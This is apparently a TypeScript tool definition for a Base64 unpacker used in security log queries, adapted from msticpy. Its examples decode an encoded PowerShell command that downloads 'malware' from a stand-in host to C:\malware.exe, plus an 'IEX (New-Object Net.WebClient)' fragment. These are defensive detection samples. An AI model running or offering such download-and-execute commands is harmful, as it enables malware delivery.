import { unpackBase64 } from '../../extract/index.ts';
import { defineEach, type EachTool } from '../define-tool.ts';

const input = {
  text: {
    type: 'string',
    about: 'A command line, a script or any text that may hold Base64.',
    usual: ['CommandLine', 'ProcessCommandLine', 'ScriptBlockText', 'Message'],
  },
} as const;

const parameters = {
  utf16: {
    type: 'bool',
    about:
      'Reads parts as UTF-16 wherever they can be; UTF-16 of mostly Latin letters, as PowerShell takes it, is recognised without.',
    default: false,
  },
} as const;

const output = {
  reference: {
    type: 'dynamic',
    about: 'What the part was found in, its depth, and its number there: `["1.", "2.", "1"]`.',
  },
  depth: {
    type: 'long',
    about: '1 for what stood in the text, 2 for what was in that, and so on.',
  },
  original_string: { type: 'string', about: 'The Base64 as it stood there.' },
  file_name: { type: 'string', about: 'The name in its archive; `unknown` for what was in none.' },
  file_type: {
    type: 'string',
    about:
      'A kind of file: exe, dll, sys, pdf, zip …; of a file from an archive the kind of that; empty for text.',
  },
  decoded_string: { type: 'string', about: 'The part as text; empty for what is no text.' },
  encoding_type: { type: 'string', about: 'One of utf-8, utf-16 and binary.' },
  md5: { type: 'string', about: 'The MD5 of the decoded bytes, in hex.' },
  sha1: { type: 'string', about: 'The SHA-1 of the decoded bytes, in hex.' },
  sha256: { type: 'string', about: 'The SHA-256 of the decoded bytes, in hex.' },
  printable_bytes: {
    type: 'string',
    about: 'The decoded bytes in hex with blanks between, of a large part the first 65,536.',
  },
  problem: { type: 'string', about: 'Why the part is not whole; empty where it is.' },
  full_decoded_string: {
    type: 'string',
    about: 'The text with all of its parts in place of their Base64.',
  },
} as const;

const powershell =
  'powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl';

const base64Unpack: EachTool<typeof input, typeof parameters, typeof output> = defineEach({
  name: 'base64_unpack',
  about:
    'What is encoded as Base64 in a text, in that again, and in archives: one row a part, with its hashes.',
  source:
    'msticpy.transform.base64unpack.unpack_df. Differs: every tar is opened, not only one whose first file has mode 777; UTF-16 is recognised; what stands behind a decoded part is never read from its middle; parts are numbered within what they stood in; a broken or encrypted archive is a part with its problem, no exception.',
  cost: 'At most 20 levels, 500 parts and 4 MiB of decoded bytes a text; an archive that unpacks to more stays packed.',
  passesOver: 'Texts without a part in Base64 have no row.',
  input,
  parameters,
  output,
  entities: ['Process', 'File'],
  each: ({ text }, { utf16 }) => {
    const unpacked = unpackBase64(text, { utf16 });
    return unpacked.parts.map((part) => ({
      reference: part.reference,
      depth: part.depth,
      original_string: part.original,
      file_name: part.fileName,
      file_type: part.fileType,
      decoded_string: part.decoded ?? '',
      encoding_type: part.encoding,
      md5: part.md5,
      sha1: part.sha1,
      sha256: part.sha256,
      printable_bytes: part.printable,
      problem: part.problem,
      full_decoded_string: unpacked.output,
    }));
  },
  examples: [
    {
      query: `datatable(CommandLine: string)["${powershell}", "nothing to see here"] | invoke base64_unpack() | project decoded_string, md5, full_decoded_string`,
      rows: [
        [
          'Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe',
          '5845a06d7f52b1818a088e889df95c77',
          "powershell.exe -encodedCommand <decoded type='string' name='[None]' index='1' depth='1'>Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe</decoded>",
        ],
      ],
    },
    {
      query:
        'print t = "x b3V0ZXIgd3JhcHMgLT4gYVc1dVpYSWdkR1Y0ZENCMGFHRjBJR2x6SUd4dmJtY2daVzV2ZFdkb0lIUnZJRzFoZEdOb0lIaDRlSGc9IDwtIGVuZA== y" | invoke base64_unpack(t) | project reference, depth, decoded_string, encoding_type',
      rows: [
        [
          ['', '1.', '1'],
          1,
          'outer wraps -> aW5uZXIgdGV4dCB0aGF0IGlzIGxvbmcgZW5vdWdoIHRvIG1hdGNoIHh4eHg= <- end',
          'utf-8',
        ],
        [['1.', '2.', '1'], 2, 'inner text that is long enough to match xxxx', 'utf-8'],
      ],
    },
    {
      query:
        'print t = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" | invoke base64_unpack(t) | project decoded_string, encoding_type',
      rows: [['IEX (New-Object Net.WebClient)', 'utf-16']],
    },
  ],
});

export default base64Unpack;
